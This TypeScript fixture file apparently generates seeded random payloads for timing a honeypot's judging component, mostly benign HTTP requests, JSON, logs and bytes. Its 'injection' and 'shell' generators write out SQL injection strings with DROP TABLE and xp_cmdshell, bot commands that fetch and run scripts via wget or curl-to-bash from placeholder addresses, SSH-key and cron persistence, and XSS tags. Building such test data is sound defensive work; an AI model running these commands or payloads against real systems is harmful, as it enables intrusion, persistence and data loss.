/** Payloads to time the judge with: every kind of text a decoy gets, made from a seed, none of them the same twice. */
import type { EventKind } from '../src/core/event.ts';

export interface Kind {
  name: string;
  event: EventKind;
  service: string;
  make(random: () => number, length: number): string;
  /** Attacks without a pause between them: told, not held to the limit of single texts. */
  isHostile?: boolean;
  /** As long as such events are, whatever is asked. */
  isShort?: boolean;
}

type Random = () => number;
const words =
  'time year people way day man thing woman life child world school state family student group country problem hand part place case week company system program question work government number night point home water room mother area money story fact month lot right study book eye job word business issue side kind head house service friend father power hour game line end member law car city community name president team minute idea body information back parent face others level office door health person art war history party result change morning reason research girl guy moment air teacher force education'.split(
    ' ',
  );
const small =
  'the of and a to in is you that it he was for on are as with his they at be this have from or had by but'.split(
    ' ',
  );
const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
const figure = (random: Random, most = 10_000): number => Math.floor(random() * most);
const hex = (random: Random, length: number): string =>
  Array.from({ length }, () => '0123456789abcdef'[Math.floor(random() * 16)]).join('');
const secret = (random: Random, length: number): string =>
  Array.from(
    { length },
    () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'[Math.floor(random() * 64)],
  ).join('');
const host = (random: Random): string => `${pick(random, words)}.${pick(random, words)}.example`;
const address = (random: Random): string => `198.51.${figure(random, 256)}.${figure(random, 256)}`;

function sentence(random: Random): string {
  const length = 6 + figure(random, 12);
  const said = Array.from({ length }, (_, at) => pick(random, at % 2 === 0 ? small : words)).join(' ');
  return `${said[0]!.toUpperCase()}${said.slice(1)}${pick(random, ['.', '.', '.', ',', '?', '!', "; it's so."])} `;
}

/** Parts one after another until the text is long enough, then cut. */
function fill(part: (at: number) => string, length: number, head = '', tail = ''): string {
  let text = '';
  for (let at = 0; head.length + text.length + tail.length < length; at += 1) text += part(at);
  // Through bytes and back: a string put together of parts is laid flat when it is first read, which texts off a wire are.
  return Buffer.from(`${head}${text}`.slice(0, length - tail.length) + tail, 'utf8').toString('utf8');
}

const agents = (random: Random): string =>
  `Mozilla/5.0 (${pick(random, ['X11; Linux x86_64', 'Windows NT 10.0; Win64; x64', 'Macintosh; Intel Mac OS X 10_15_7'])}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${90 + figure(random, 60)}.0.${figure(random)}.0 Safari/537.36`;
const header = (random: Random): string =>
  pick(random, [
    () => `X-Request-Id: ${hex(random, 32)}\r\n`,
    () => `Accept-Language: en-US,en;q=0.${figure(random, 10)}\r\n`,
    () => `X-Forwarded-For: ${address(random)}, ${address(random)}\r\n`,
    () => `If-None-Match: "${hex(random, 16)}"\r\n`,
    () =>
      `Referer: https://${host(random)}/${pick(random, words)}/${pick(random, words)}?page=${figure(random)}\r\n`,
    () =>
      `Cookie: session=${secret(random, 40)}; theme=${pick(random, words)}; _ga=GA1.2.${figure(random, 1e9)}.${figure(random, 1e9)}\r\n`,
    () => `Authorization: Bearer ${secret(random, 36)}.${secret(random, 80)}.${secret(random, 43)}\r\n`,
    () => `X-${pick(random, words)}-${pick(random, words)}: ${pick(random, words)} ${figure(random)}\r\n`,
  ])();
const line = (random: Random, method: string): string =>
  `${method} /${pick(random, words)}/${pick(random, words)}.php?id=${figure(random)}&sort=${pick(random, words)} HTTP/1.1\r\nHost: ${host(random)}\r\nUser-Agent: ${agents(random)}\r\nAccept: text/html,application/xhtml+xml\r\n`;
const field = (random: Random): string =>
  `${pick(random, words)}_${pick(random, words)}=${random() < 0.5 ? figure(random) : encodeURIComponent(sentence(random).trim()).replaceAll('%20', random() < 0.5 ? '+' : '%20')}&`;
const member = (random: Random): string =>
  `"${pick(random, words)}_${figure(random, 100)}":${pick(random, [() => String(figure(random)), () => `"${sentence(random).trim()}"`, () => `{"id":"${hex(random, 24)}","at":"2026-11-${10 + figure(random, 20)}T08:00:00Z"}`, () => `["${pick(random, words)}","${pick(random, words)}"]`])()},`;
const injection = (random: Random): string =>
  pick(random, [
    () =>
      `${figure(random)}' UNION SELECT ${figure(random)},concat(0x${hex(random, 4)},user(),0x7e),${pick(random, words)} FROM information_schema.tables WHERE '${pick(random, words)}'='${pick(random, words)}' -- `,
    () => `' OR ${figure(random)}=${figure(random)} AND SLEEP(${figure(random, 9)})#`,
    () => `1); DROP TABLE ${pick(random, words)}; EXEC xp_cmdshell('ping ${address(random)}')--`,
  ])();
const shell = (random: Random): string =>
  pick(random, [
    () =>
      `cd /tmp || cd /var/run || cd /mnt; wget http://${address(random)}/${pick(random, words)}.sh -O ${pick(random, words)}.sh; chmod 777 ${pick(random, words)}.sh; sh ${pick(random, words)}.sh; rm -rf ${pick(random, words)}.sh\n`,
    () =>
      `for i in $(seq 1 ${figure(random, 99)}); do curl -s http://${address(random)}:${figure(random)}/${pick(random, words)} | bash; done\n`,
    () => `echo "${secret(random, 40)}" >> ~/.ssh/authorized_keys && chattr +i ~/.ssh/authorized_keys\n`,
    () =>
      `(crontab -l; echo "*/${figure(random, 59)} * * * * /tmp/.${pick(random, words)}/${pick(random, words)} >/dev/null 2>&1") | crontab -\n`,
    () => `ps aux | grep -v grep | grep ${pick(random, words)} | awk '{print $2}' | xargs kill -9\n`,
    () =>
      `if [ "$(uname -m)" = "x86_64" ]; then ARCH=${pick(random, words)}; else ARCH=arm${figure(random, 8)}; fi\n`,
  ])();

export function kindsOf(): Kind[] {
  const web = { event: 'http.request', service: 'http' } as const;
  return [
    { name: 'sign-in', event: 'login.failed', service: 'ssh', isShort: true, make: () => '' },
    {
      name: 'request with many headers',
      ...web,
      make: (random, length) => fill(() => header(random), length, line(random, 'GET'), '\r\n\r\n'),
    },
    {
      name: 'request with a form',
      ...web,
      make: (random, length) =>
        fill(
          () => field(random),
          length,
          `${line(random, 'POST')}Content-Type: application/x-www-form-urlencoded\r\n\r\n`,
        ),
    },
    { name: 'form alone', ...web, make: (random, length) => fill(() => field(random), length) },
    { name: 'JSON', ...web, make: (random, length) => fill(() => member(random), length, '{', '"}') },
    {
      name: 'request with JSON',
      ...web,
      make: (random, length) =>
        fill(
          () => member(random),
          length,
          `${line(random, 'POST')}Content-Type: application/json\r\n\r\n{`,
          '"}',
        ),
    },
    {
      name: 'form of parts',
      ...web,
      make: (random, length) =>
        fill(
          () =>
            `--x7f\r\nContent-Disposition: form-data; name="${pick(random, words)}"\r\n\r\n${sentence(random)}\r\n`,
          length,
        ),
    },
    {
      name: 'header lines',
      ...web,
      make: (random, length) => fill(() => header(random), length, `Host: ${host(random)}\r\n`),
    },
    { name: 'prose', ...web, make: (random, length) => fill(() => sentence(random), length) },
    {
      name: 'page (HTML)',
      ...web,
      make: (random, length) =>
        fill(
          () =>
            `<div class="${pick(random, words)}"><p>${sentence(random)}</p><a href="/${pick(random, words)}?id=${figure(random)}">${pick(random, words)}</a></div>\n`,
          length,
        ),
    },
    {
      name: 'XML',
      ...web,
      make: (random, length) =>
        fill(
          () => `<${pick(random, small)}>${pick(random, words)} ${figure(random)}</${pick(random, small)}>\n`,
          length,
          '<?xml version="1.0"?>\n',
        ),
    },
    {
      name: 'log lines',
      event: 'payload.received',
      service: 'syslog',
      make: (random, length) =>
        fill(
          () =>
            `Nov ${10 + figure(random, 19)} 08:${10 + figure(random, 49)}:${10 + figure(random, 49)} ${pick(random, words)} sshd[${figure(random)}]: Connection from ${address(random)} port ${figure(random)} on ${pick(random, words)}\n`,
          length,
        ),
    },
    {
      name: 'access log line',
      ...web,
      make: (random, length) =>
        fill(
          () => field(random),
          length,
          `${address(random)} - - [17/May/2026:10:05:03 +0000] "GET /${pick(random, words)}?`,
          ` HTTP/1.1" 200 ${figure(random)} "-" "${agents(random)}"`,
        ),
    },
    { name: 'base64', ...web, make: (random, length) => fill(() => secret(random, 64), length) },
    {
      name: 'bytes',
      event: 'payload.received',
      service: 'tcp',
      make: (random, length) => fill(() => String.fromCharCode(figure(random, 256)), length),
    },
    {
      name: 'bytes, escaped',
      event: 'payload.received',
      service: 'tcp',
      make: (random, length) => fill(() => `\\x${hex(random, 2)}`, length),
    },
    {
      name: 'request with one injection',
      ...web,
      make: (random, length) =>
        fill(
          () => header(random),
          length,
          `GET /${pick(random, words)}?id=${encodeURIComponent(injection(random))} HTTP/1.1\r\nHost: ${host(random)}\r\n`,
          '\r\n\r\n',
        ),
    },
    {
      name: 'script of a bot in its shell',
      event: 'command.run',
      service: 'ssh',
      make: (random, length) => fill(() => shell(random), length),
    },
    {
      name: 'SQL (mysql)',
      event: 'payload.received',
      service: 'mysql',
      make: (random, length) =>
        fill(
          () =>
            `INSERT INTO ${pick(random, words)} (${pick(random, words)}, ${pick(random, words)}) VALUES (${figure(random)}, '${pick(random, words)} ${pick(random, words)}');\n`,
          length,
        ),
    },
    {
      name: 'nothing but injections',
      ...web,
      isHostile: true,
      make: (random, length) => fill(() => injection(random), length),
    },
    {
      name: 'nothing but coded injections',
      ...web,
      isHostile: true,
      make: (random, length) =>
        fill(() => `${encodeURIComponent(injection(random))}&${pick(random, words)}=`, length, 'a='),
    },
    {
      name: 'script of a bot in a parameter',
      ...web,
      isHostile: true,
      make: (random, length) => fill(() => shell(random), length, 'cmd='),
    },
    {
      name: 'nothing but signs',
      ...web,
      isHostile: true,
      make: (random, length) =>
        fill(
          () =>
            pick(random, [
              "'",
              '"',
              ';',
              '|',
              '&',
              '$',
              '(',
              ')',
              '<',
              '>',
              '{',
              '}',
              '`',
              '%',
              '\\',
              '/',
              '*',
              '-',
              '=',
              'a',
              '1',
            ]),
          length,
        ),
    },
    {
      name: 'nothing but tags',
      ...web,
      isHostile: true,
      make: (random, length) =>
        fill(
          () =>
            `<${pick(random, ['script', 'img', 'svg', 'iframe'])} on${pick(random, ['load', 'error', 'click'])}=alert(${figure(random)})>${pick(random, words)}`,
          length,
        ),
    },
  ];
}
